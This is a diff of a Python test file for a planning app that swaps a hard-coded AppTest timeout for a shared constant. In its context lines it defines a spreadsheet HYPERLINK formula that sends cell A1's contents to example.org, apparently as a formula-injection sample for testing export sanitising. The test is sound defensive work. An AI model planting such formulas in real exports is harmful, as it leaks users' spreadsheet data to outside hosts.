@@ -21,6 +21,7 @@ from planning.cli import main
 from planning.db import session_scope
 from planning.exports import csv_bytes, defuse_cell, workbook_bytes
 from planning.models import Area, AreaLayout
+from tests.conftest import APPTEST_TIMEOUT_S
 
 APP = str(Path(__file__).resolve().parent.parent / "app.py")
 FORMULA = '=HYPERLINK("http://example.org/?x="&A1;"Klick")'
@@ -103,7 +104,7 @@ def test_pages_print_names_literally(tiny_engine, monkeypatch):
     """An imported municipality and area name full of markdown and HTML is escaped on the page."""
     _rename(tiny_engine, PAYLOAD)
     monkeypatch.setenv("PLANUNGSATLAS_DB_URL", str(tiny_engine.url))
-    at = AppTest.from_file(APP, default_timeout=120)
+    at = AppTest.from_file(APP, default_timeout=APPTEST_TIMEOUT_S)
     at.query_params["gebiet"] = "0101"
     at.run()
     assert not at.exception, [e.value for e in at.exception]
